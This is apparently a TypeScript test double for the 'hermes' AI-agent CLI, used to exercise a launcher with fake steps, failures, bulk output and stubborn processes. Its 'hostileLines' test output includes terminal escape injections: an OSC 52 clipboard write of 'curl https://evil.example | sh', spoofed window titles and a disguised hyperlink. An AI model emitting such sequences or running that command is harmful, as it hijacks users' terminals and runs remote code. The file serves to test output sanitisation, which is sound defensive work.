#!/usr/bin/env node
// A stand-in for the `hermes` CLI: the real launcher runs it exactly as it would run Hermes, so the
// demo and the tests exercise real processes without Hermes or API keys. It accepts Hermes's
// `chat -q` arguments (rejecting anything else with exit 2, as Hermes's argparse does) and acts
// as `[fake:KEY=VALUE]` directives in the query say (see directives.ts and the list below).
// Unless a directive says otherwise, the last line on stdout is the answer.
import {spawn} from 'node:child_process';
import {appendFileSync, existsSync} from 'node:fs';
import {once} from 'node:events';
import {setTimeout as sleep} from 'node:timers/promises';
import {parseDirectives, type Directives} from './directives.js';

const reasoningEfforts = ['none', 'minimal', 'low', 'medium', 'high', 'xhigh'];
const profilePattern = /^[a-z0-9][a-z0-9_-]{0,63}$/;

const usage = `usage: hermes [-h] [-p PROFILE] chat -q QUERY [-m MODEL] [--provider PROVIDER]
              [--reasoning {${reasoningEfforts.join(',')}}] [-Q] [-t TOOLSETS] [--yolo]
              [--max-turns N] [--source SOURCE]`;

const directivesHelp = `fake hermes: steer it with directives in QUERY, e.g. [fake:duration=1] [fake:fail]
  [fake:exit=N] [fake:steps=N] [fake:forever] [fake:ignore-term] [fake:grandchild] [fake:ready]
  [fake:lines=N] [fake:bytes=N] [fake:line-bytes=B] [fake:escapes] [fake:echo-args] [fake:stdin]
  [fake:answer=TEXT] [fake:until-file=PATH] (steps until PATH exists, then answers)`;

type Cli = {
	profile?: string;
	query?: string;
	model?: string;
	provider?: string;
	reasoning?: string;
	toolsets?: string;
	maxTurns?: string;
	source?: string;
	quiet?: boolean;
	yolo?: boolean;
};

class UsageError extends Error {}

// Flags of `chat` must follow the command word; only the profile is global.
const globalFlags: Record<string, 'profile'> = {'-p': 'profile', '--profile': 'profile'};
const chatValueFlags: Record<string, Exclude<keyof Cli, 'quiet' | 'yolo'>> = {
	'-q': 'query',
	'--query': 'query',
	'-m': 'model',
	'--model': 'model',
	'--provider': 'provider',
	'--reasoning': 'reasoning',
	'-t': 'toolsets',
	'--toolsets': 'toolsets',
	'--max-turns': 'maxTurns',
	'--source': 'source',
};
const chatSwitches: Record<string, 'quiet' | 'yolo'> = {'-Q': 'quiet', '--quiet': 'quiet', '--yolo': 'yolo'};

/** As argparse splits an option: `--flag=VALUE`, and a short option's value attached (`-qVALUE`, `-q=VALUE`). */
function splitFlag(arg: string): {flag: string; attached?: string} {
	if (arg.startsWith('--')) {
		const equals = arg.indexOf('=');
		return equals > 0 ? {flag: arg.slice(0, equals), attached: arg.slice(equals + 1)} : {flag: arg};
	}

	if (arg.startsWith('-') && arg.length > 2) {
		return {flag: arg.slice(0, 2), attached: arg.slice(arg[2] === '=' ? 3 : 2)};
	}

	return {flag: arg};
}

function parseCli(argv: readonly string[]): Cli {
	const cli: Cli = {};
	let command: string | undefined;
	for (let index = 0; index < argv.length; index++) {
		const arg = argv[index]!;
		const {flag, attached} = splitFlag(arg);
		const key = globalFlags[flag] ?? (command === undefined ? undefined : chatValueFlags[flag]);
		if (key !== undefined) {
			const value = attached ?? argv[++index];
			// argparse reads a separate "-word" as another option, not as this one's value.
			if (value === undefined || (attached === undefined && /^-[^\s]/.test(value))) {
				throw new UsageError(`argument ${flag}: expected one argument`);
			}

			cli[key] = value;
		} else if (command !== undefined && attached === undefined && chatSwitches[flag] !== undefined) {
			cli[chatSwitches[flag]] = true;
		} else if (arg.startsWith('-') || command !== undefined) {
			throw new UsageError(`unrecognized arguments: ${arg}`);
		} else {
			command = arg;
		}
	}

	if (command !== 'chat') {
		throw new UsageError(command === undefined ? 'a command is required (chat)' : `invalid choice: '${command}' (choose from 'chat')`);
	}

	if (cli.query === undefined) throw new UsageError('chat needs -q QUERY when not run on a terminal');
	if (cli.profile !== undefined) {
		const name = cli.profile.trim().toLowerCase();
		if (!profilePattern.test(name)) throw new UsageError(`invalid profile name: '${cli.profile}'`);
		cli.profile = name;
	}

	if (cli.reasoning !== undefined && !reasoningEfforts.includes(cli.reasoning)) {
		throw new UsageError(`argument --reasoning: invalid choice: '${cli.reasoning}'`);
	}

	if (cli.maxTurns !== undefined && !/^\d+$/.test(cli.maxTurns)) {
		throw new UsageError(`argument --max-turns: invalid int value: '${cli.maxTurns}'`);
	}

	return cli;
}

async function write(text: string, stream: NodeJS.WriteStream = process.stdout): Promise<void> {
	// Respecting backpressure is the point: a reader that keeps up sees a steady stream, one that
	// does not stalls us instead of growing our memory.
	if (!stream.write(text)) await once(stream, 'drain');
}

function describeRun(cli: Cli): string {
	const parts = [`model ${cli.model ?? '(configured default)'}${cli.provider ? ` via ${cli.provider}` : ''}`];
	if (cli.reasoning) parts.push(`reasoning ${cli.reasoning}`);
	if (cli.profile) parts.push(`profile ${cli.profile}`);
	if (cli.toolsets) parts.push(`toolsets ${cli.toolsets}`);
	return `fake hermes [${parts.join(', ')}]`;
}

function shorten(text: string, length: number): string {
	return text.length > length ? `${text.slice(0, length - 1)}…` : text;
}

function stepLine(index: number, goal: string): string {
	const topic = shorten(goal || 'the task', 40);
	const slug = topic.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-').replaceAll(/^-|-$/g, '') || 'notes';
	const steps = [
		`▸ reading task context (${goal.length} chars)`,
		`▸ calling tool web_search ${JSON.stringify({query: topic})}`,
		'  ↳ 8 results',
		`▸ reading https://example.org/${slug}`,
		'▸ calling tool terminal {"command": "grep -rn TODO src"}',
		'✓ gathered enough to answer',
	];
	return steps[index % steps.length]!;
}

// Stays in our process group, ignores SIGTERM and outlives us: what a careless tool leaves behind.
const grandchildScript = `
process.on('SIGTERM', () => process.stderr.write('grandchild ignoring SIGTERM\\n'));
require('node:fs').writeSync(3, 'ok');
setInterval(() => {}, 1e9);`;

async function startGrandchild(): Promise<number> {
	const child = spawn(process.execPath, ['-e', grandchildScript], {stdio: ['ignore', 'inherit', 'inherit', 'pipe']});
	const ready = child.stdio[3]!;
	// Announced only once its SIGTERM handler is in place, so READY really means ready.
	await once(ready, 'data');
	ready.destroy();
	child.unref();
	return child.pid!;
}

async function readStdin(): Promise<number> {
	let bytes = 0;
	for await (const chunk of process.stdin) bytes += (chunk as Buffer).length;
	return bytes;
}

const esc = '\u001B';
const bel = '\u0007';
const hostileLines = [
	`${esc}[1;32mcoloured output is fine:${esc}[0m ${esc}[31mred${esc}[0m ${esc}[38;5;208morange${esc}[0m ${esc}[38;2;120;80;255mtruecolor${esc}[0m`,
	`clipboard (OSC 52):${esc}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}${bel}`,
	`window title:${esc}]0;pwned by a subagent${bel}${esc}]2;still pwned${esc}\\`,
	`cursor moves:${esc}[2A${esc}[10;10H${esc}[s${esc}[u overwritten`,
	`clear screen:${esc}[2J${esc}[3J${esc}[H`,
	`alternate screen:${esc}[?1049h entered and never left`,
	`terminal modes:${esc}[?1000h${esc}[?2004h${esc}[?25l mouse, paste, hidden cursor`,
	`hyperlink:${esc}]8;;https://evil.example${esc}\\innocent text${esc}]8;;${esc}\\`,
	`full reset:${esc}c bell:${bel} C1 CSI:\u009B31mred via C1\u009B0m backspace:abc\b\b\bxyz`,
	'carriage return:progress 10%\rprogress 100%',
	`${esc}[1;32m✓ end of hostile output${esc}[0m`,
];

const filler = 'the quick brown fox jumps over the lazy dog; '.repeat(8);

/** `line-bytes` counts the newline, so bytes=N / line-bytes=B gives N/B lines. */
async function printBulk(directives: Directives): Promise<void> {
	const width = Math.max(16, Math.floor(directives.number('line-bytes', 64)));
	const maxLines = directives.has('lines') ? Math.floor(directives.number('lines', 0)) : Number.POSITIVE_INFINITY;
	const maxBytes = directives.has('bytes') ? Math.floor(directives.number('bytes', 0)) : Number.POSITIVE_INFINITY;
	let written = 0;
	let chunk = '';
	for (let number = 1; number <= maxLines && written < maxBytes; number++) {
		let line = `line ${String(number).padStart(8, '0')} `;
		while (line.length < width - 1) line += filler.slice(0, width - 1 - line.length);
		line = `${line.slice(0, Math.min(width, maxBytes - written) - 1)}\n`;
		written += line.length;
		chunk += line;
		if (chunk.length >= 65_536) {
			await write(chunk);
			chunk = '';
		}
	}

	await write(chunk);
}

/**
 * Steps at its usual pace for as long as `file` is missing (checked every 50 ms): a task that ends
 * exactly when a test says so, however slow or fast the machine. SIGTERM ends it as usual.
 */
async function stepUntilExists(file: string, pauseMs: number, step: (index: number) => Promise<void>): Promise<void> {
	let index = 0;
	let nextStep = Date.now() + pauseMs;
	while (!existsSync(file)) {
		await sleep(50);
		if (Date.now() >= nextStep) {
			await step(index++);
			nextStep += pauseMs;
		}
	}
}

async function main(argv: readonly string[]): Promise<number> {
	const argvFile = process.env['FAKE_HERMES_ARGV_FILE'];
	if (argvFile) appendFileSync(argvFile, `${JSON.stringify(argv)}\n`);
	if (argv.includes('-h') || argv.includes('--help')) {
		await write(`${usage}\n${directivesHelp}\n`);
		return 0;
	}

	let cli: Cli;
	try {
		cli = parseCli(argv);
	} catch (error) {
		if (!(error instanceof UsageError)) throw error;
		await write(`${usage}\nhermes: error: ${error.message}\n`, process.stderr);
		return 2;
	}

	const directives = parseDirectives(cli.query!);
	const runaway = directives.has('forever') || directives.has('ignore-term');
	const bulk = directives.has('lines') || directives.has('bytes');
	const exitCode = Math.floor(directives.number('exit', directives.has('fail') ? 1 : 0));

	if (directives.has('echo-args')) await write(`ARGV ${JSON.stringify(argv)}\n`);
	if (!cli.quiet && !bulk) await write(`${describeRun(cli)}\n`);
	if (directives.has('ignore-term')) {
		process.on('SIGTERM', () => {
			process.stderr.write('ignoring SIGTERM\n');
		});
	}

	if (directives.has('grandchild')) await write(`grandchild pid ${await startGrandchild()}\n`);
	if (directives.has('stdin')) await write(`stdin: ${await readStdin()} bytes\n`);
	if (directives.has('ready')) await write('READY\n');
	if (directives.has('escapes')) await write(`${hostileLines.join('\n')}\n`);

	if (bulk) {
		await printBulk(directives);
	} else {
		const steps = Math.max(1, Math.floor(directives.number('steps', 6)));
		const pause = (directives.number('duration', 3) * 1000) / steps;
		const count = directives.has('fail') ? Math.ceil(steps / 2) : steps;
		const step = async (index: number) => {
			if (!cli.quiet) await write(`${stepLine(index, directives.goal)}\n`);
		};

		const untilFile = directives.text('until-file');
		if (untilFile !== undefined) {
			await stepUntilExists(untilFile, Math.max(pause, 100), step);
		} else {
			for (let index = 0; runaway || index < count; index++) {
				// A runaway must not spin even when told to be quick.
				await sleep(runaway ? Math.max(pause, 100) : pause);
				await step(index);
			}
		}

		if (directives.has('fail')) {
			const model = cli.model ?? 'the configured model';
			await write(`Error: provider returned 429 Too Many Requests for ${model}: rate limited, retry later\n`, process.stderr);
			return exitCode;
		}

		await write(`${directives.text('answer') ?? `Fake answer: ${shorten(directives.goal, 80) || 'done'}`}\n`);
	}

	while (runaway) await sleep(1000);
	return exitCode;
}

// A reader that went away (EPIPE) ends us, as it would end Hermes.
process.stdout.on('error', () => process.exit(1));
process.on('SIGINT', () => {
	process.stderr.write('Interrupted\n');
	process.exit(130);
});

main(process.argv.slice(2)).then(
	(code) => {
		process.exitCode = code;
	},
	(error: unknown) => {
		process.stderr.write(`fake hermes crashed: ${error instanceof Error ? error.stack : String(error)}\n`);
		process.exitCode = 1;
	},
);
